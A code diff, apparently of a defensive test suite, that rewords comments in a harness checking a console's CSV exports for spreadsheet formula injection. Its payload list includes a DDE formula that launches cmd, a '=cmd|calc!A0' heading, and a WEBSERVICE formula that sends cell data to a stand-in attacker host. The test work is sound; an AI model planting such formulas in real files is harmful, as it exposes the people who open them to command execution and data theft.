@@ -1,4 +1,7 @@
-/** Texts that spreadsheets would run, put wherever a text can be put, and every CSV file that the console writes. */
+/**
+ * Text that spreadsheets would run, in every place where text can be entered, and every CSV file that the console
+ * writes.
+ */
 import { readFileSync } from 'node:fs'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
@@ -22,26 +25,27 @@ const tails = [
   'a\r\n=b', 'DDE("cmd";"/C calc";"x")', '2+3;=4', 'WEBSERVICE("http://evil.example/"&A1)', '\u202e)1(MUS', 'É Ω 漢 🙂'
 ]
 
-/** Where a spreadsheet that splits there would begin another cell. */
+/** Prefixes after which a spreadsheet that splits there would begin another cell. */
 const cuts = ['a;', 'a\t', 'a,', 'a\n', 'a";', '"a,b";']
 
-/** 450 of them: 300 that begin like a formula, and 150 with one behind a separator. */
+/** 450 payloads: 300 that begin like a formula, and 150 with one after a separator. */
 export const payloads: readonly string[] = [...signs.flatMap((sign) => tails.map((tail) => sign + tail)), ...cuts.flatMap((cut) => signs.map((sign) => `${cut}${sign}1+1${cut.at(-1)}b`))]
 
-// Written apart from the writers' own rule. Source: OWASP, "CSV Injection"; some spreadsheets trim white space before a sign.
+// Independent of the writers' own rule. Source: OWASP, "CSV Injection"; some spreadsheets trim white space before a
+// sign.
 const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']
 
 const isFormula = (cell: string): boolean => starts.some((sign) => cell.replaceAll('\0', ' ').trimStart().startsWith(sign))
-/** Whether a spreadsheet would take a cell for a formula, or for the beginning of another cell. */
+/** Whether a spreadsheet would interpret a cell as a formula, or as the beginning of another cell. */
 export const wouldRun = (cell: string): boolean => /^[\t\r\n]/.test(cell) || isFormula(cell)
 
-/** The separators at which spreadsheets split a CSV file, by their locale or by choice. */
+/** The separators at which spreadsheets split a CSV file, by locale or by choice. */
 export const separators = { comma: ',', semicolon: ';', tab: '\t' } as const
 type Separator = (typeof separators)[keyof typeof separators]
 
 /**
- * The cells of a spreadsheet that splits elsewhere than the file does. Programs differ in what a quote is to them in
- * the middle of a field: nothing, or (where it comes first) the beginning of what is not split. Both are looked at.
+ * The cells in a spreadsheet that splits at another separator than the file's. Applications differ in how they treat a
+ * quote in the middle of a field: as text, or (if it comes first) as the beginning of a quoted part. Both are checked.
  */
 export function cellsSplitAt(text: string, separator: string): string[] {
   const cells = text.replaceAll('"', '').split(/[\r\n]/).flatMap((line) => line.split(separator))
@@ -67,7 +71,7 @@ export const linesOf = <T = Record<string, unknown>>(path: string): T[] => readF
 export interface Written {
   readonly file: string
   readonly cells: number
-  /** Cells that hold one of the payloads; the file really was attacked. */
+  /** Cells that contain a payload, which shows that the file was attacked. */
   readonly attacked: number
   readonly faults: readonly string[]
 }
@@ -75,7 +79,7 @@ export interface Written {
 const bare = (cell: string): string => cell.replaceAll("'", '')
 const known = new Set(payloads.map(bare))
 
-/** A CSV file: how many of its cells a spreadsheet would run, at whichever separator it splits. */
+/** Counts the cells of a CSV file that a spreadsheet would run, at any separator. */
 function validated(file: string, path: string, own: Separator = ','): Written {
   const cells = cellsOf(path, own)
   const attacked = cells.filter((cell) => known.has(bare(cell))).length
@@ -86,7 +90,7 @@ function validated(file: string, path: string, own: Separator = ','): Written {
   return { file, cells: cells.length, attacked, faults: [...cells.filter(wouldRun).map((cell) => `${file}: ${JSON.stringify(cell)} would run`), ...elsewhere] }
 }
 
-/** A lossless file: the texts in it are exactly those that were put in, in their order. */
+/** A lossless file: its texts are exactly the payloads, in order. */
 function lossless(file: string, found: readonly (string | undefined)[], wanted: readonly string[]): Written {
   const faults = wanted.flatMap((text, n) => (found[n] === text ? [] : [`${file}: ${JSON.stringify(found[n])} instead of ${JSON.stringify(text)}`]))
   if (found.length !== wanted.length) faults.push(`${file}: ${found.length} texts instead of ${wanted.length}`)
@@ -99,7 +103,7 @@ const must = async <T>(result: Promise<{ ok: true; value: T } | { ok: false; fai
   return settled.value
 }
 
-/** Answers with each row's own payload; every third is refused, every fifth left without an answer. */
+/** Answers with each row's own payload; every third request is refused, every fifth gets no answer. */
 async function hostileService(): Promise<{ readonly baseUrl: string; close(): void }> {
   const server = createServer((request, response) => {
     let body = ''
@@ -121,9 +125,9 @@ async function hostileService(): Promise<{ readonly baseUrl: string; close(): vo
   }
 }
 
-/** A batch whose headings and cells are attacked, run against a service whose answers are; every file of it. */
+/** All files of a batch with payloads in headings and cells, run against a service that answers with payloads. */
 async function batchFiles(ground: Ground, folder: string, [name, delimiter]: readonly [string, Separator]): Promise<Written[]> {
-  // What begins like a formula is the same in each; what has one behind a separator is not.
+  // Payloads that begin like a formula are the same for each separator; those with one after a separator are not.
   const first = delimiter === ',' ? 0 : payloads.length - 250
   const rows = payloads.map((payload, n) => [n % 7 === 0 ? '' : `ROW-${n}`, payload]).slice(first)
   const text = stringify([['applicant_id', '=cmd|calc!A0'], ...rows], { delimiter })
@@ -144,7 +148,7 @@ async function batchFiles(ground: Ground, folder: string, [name, delimiter]: rea
   return written
 }
 
-/** The history and the applicants, with the payloads in every text that stands in a column. */
+/** The history and the applicants, with payloads in every text that is exported as a column. */
 async function exported({ store }: Ground, folder: string): Promise<Written[]> {
   let path = ''
   const exports = createExports({
@@ -176,7 +180,7 @@ async function exported({ store }: Ground, folder: string): Promise<Written[]> {
   return written
 }
 
-/** Every CSV writer of the console with every payload, and the lossless file beside each. */
+/** Every CSV writer of the console with every payload, and the matching lossless file. */
 export function writeEverywhere(): Promise<Written[]> {
   return inProofFolder(async (folder) => {
     const service = await hostileService()
